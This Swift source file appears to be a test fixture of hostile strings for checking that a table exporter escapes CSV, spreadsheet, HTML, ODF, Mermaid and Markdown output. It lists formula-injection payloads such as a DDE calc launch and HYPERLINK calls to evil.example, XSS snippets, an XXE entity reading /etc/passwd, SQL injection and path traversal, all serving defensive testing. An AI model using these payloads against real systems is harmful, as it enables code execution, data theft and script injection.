/// Texts that somebody may have typed, or made, to break out of the format they are exported in.
enum HostileTableTexts {
    /// All of them, very long ones among them.
    static let all =
        controls + formulas + markup + diagrams + marks + others + [
            String(repeating: "W", count: 5_000), String(repeating: "\u{E9}", count: 3_000),
            String(repeating: "\u{1F469}\u{200D}\u{1F467}", count: 300),
            "e" + String(repeating: "\u{301}", count: 2_000),
            // Swift has no literal for it.
            String(decoding: [0xFDD0] as [UInt16], as: UTF16.self),
        ]

    /// Controls of terminals and of direction, and what is no character.
    static let controls = [
        "\u{FEFF}=1", "\u{0}x", "\u{1}x", "\u{2}x", "\u{3}x", "\u{4}x", "\u{5}x", "\u{6}x", "\u{7}x", "\u{8}x",
        "\u{B}x", "\u{C}x", "\u{E}x", "\u{F}x", "\u{10}x", "\u{11}x", "\u{12}x", "\u{13}x", "\u{14}x", "\u{15}x",
        "\u{16}x", "\u{17}x", "\u{18}x", "\u{19}x", "\u{1A}x", "\u{1B}x", "\u{1C}x", "\u{1D}x", "\u{1E}x", "\u{1F}x",
        "a\u{0}b", "a\u{8}b", "a\u{1B}b", "a\u{7F}b", "a\u{80}b", "a\u{85}b", "a\u{9B}b", "a\u{9F}b",
        "\u{1B}[31mred\u{1B}[0m", "\u{1B}]8;;http://e.example\u{7}x\u{1B}]8;;\u{7}", "\u{1B}]0;title\u{7}",
        "\u{9B}31m", "\u{202E}abc", "\u{202D}\u{202C}", "\u{2066}x\u{2069}", "\u{200F}x\u{200E}", "\u{61C}",
        "a\u{2028}b\u{2029}c", "\u{FFFE}", "\u{FFFF}", "\u{1FFFE}", "\u{FFF9}a\u{FFFA}b\u{FFFB}",
        "\u{FEFF}", "\u{AD}", "\u{E0041}", "\u{D7FF}\u{E000}",
    ]

    /// Formulas, plain and hidden.
    static let formulas = [
        "=1+1", "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
        "=WEBSERVICE(\"http://e.example\")", "\t=1", "\r=1", "\n=1", " =1", "\u{A0}=1", "\u{200B}=1", "\"=1\"", "'=1",
        "\u{201C}=1", "\u{FF1D}1+1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}x", "\u{FE66}1", "a;=1+1", "a;\"=1+1\"",
        "a\n=1+1", "a\r\n=1", "a\t=1", "a\n- b", "=", "+", "-", "@", "{=1}", "DDE(\"x\")", "of:=1+1", "msoxl:=1",
        "-->", "@someone", "- item", "---\ntitle: x\n---", "+32 2 555 01 00", "'; DROP TABLE x;--",
    ]

    /// HTML, XML and scripts.
    static let markup = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></table><h1>x",
        "<a href=\"javascript:alert(1)\">x</a>", "<iframe src=//evil.example>", "&lt;b&gt;", "&amp;amp;", "<!-- x",
        "<br>", "<style>*{}</style>", "<svg onload=alert(1)>", "&#60;script&#62;", "<details open ontoggle=alert(1)>",
        "]]>", "<![CDATA[x]]>", "<?php x ?>", "<?xml version=\"1.0\"?>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "&e;",
        "</text:p></table:table-cell><table:table-cell table:formula=\"of:=1+1\"/>", "\" table:formula=\"of:=1",
        "<text:a xlink:href=\"http://e.example\">x</text:a>", "</office:document>", "<http://evil.example>", "\\<b>",
        "<%= 7 %>",
    ]

    /// Words and signs of Mermaid.
    static let diagrams = [
        "title x", "section y", "gantt", "click a href \"javascript:alert(1)\"", "click a call f()",
        "%%{init: {\"securityLevel\":\"loose\"}}%%", "%% comment", "a %% b", "dateFormat X", "axisFormat %d",
        "todayMarker on", "excludes weekends", "accTitle: x", "accDescr { x }", "href \"x\"", "call f()",
        "weekday monday", "inclusiveEndDates", "topAxis", "done, crit", "after x", "}%%", "__proto__", "constructor",
        "vert", "a\n    section evil\n    x :2026-01-01, 1d", "tickInterval 1day", "includes x",
        "displayMode: compact", "$$\\href{x}{y}$$",
    ]

    /// Signs of Markdown, links and mentions.
    static let marks = [
        "a|b", "|", "||", "\\|", "\\\\|", "`code`", "``", "`a|b`", "```\nfence\n```", "[x](http://evil.example)",
        "![x](http://evil.example/p.png)", "[x]: http://evil.example", "http://evil.example/?q=|x`y",
        "www.evil.example", "mail@evil.example", "mailto:a@b.example", "xmpp:a@b.example", "#12",
        "*b* _i_ **b** ~~s~~ ~s~", "# heading", "> quote", "| - |", "|---|", "$x$ $$y$$", "[^1]",
        "HTTPS://EVIL.EXAMPLE", "x\\`y", "http://`a``b|c", "a#b", "#lt;b#gt;", "${x}", "{{7*7}}",
    ]

    /// Ends of lines, separators, blanks, scripts of the world, and what looks like something else.
    static let others = [
        "a\\", "GH-12", "1. item", ":smile:", "a  b   c", "  lead", "trail  ", "a:b", "a;b", "2026-01-01", "\tx",
        "\nx", "\rx", "\r\n", "\n", "\r", "a\r\nb", "a\n\nb", "a\r\rb", "\n\n", "x\r\nBEGIN:VEVENT", "\"", "\"\"",
        "\"\"\"", "a\"b", "\",\"", "',;\t", "a,b", "a\tb", "\"\r\n\"", ",", ";", "", "  ", " ", "\u{1F44D}\u{1F3FD}",
        "\u{1F1E7}\u{1F1EA}", "\u{645}\u{631}\u{62D}\u{628}\u{627} \u{628}\u{627}\u{644}\u{639}\u{627}\u{644}\u{645}",
        "\u{5E9}\u{5DC}\u{5D5}\u{5DD}", "\u{65E5}\u{672C}\u{8A9E}\u{306E}\u{30C6}\u{30AD}\u{30B9}\u{30C8}",
        "\u{D55C}\u{AD6D}\u{C5B4}", "\u{FDFA}", "\u{C5}ngstr\u{F6}m", "\u{130}stanbul", "\u{DF}", "BE-2026-0012",
        "2026-03-01", "0012", "1E5", "1/2", "12:30", "TRUE", "NaN", "1.000,5", "null", "../../etc/passwd", "C:\\x",
        "%s%n", "O'Brien", "\\u0000", "\\n",
    ]
}
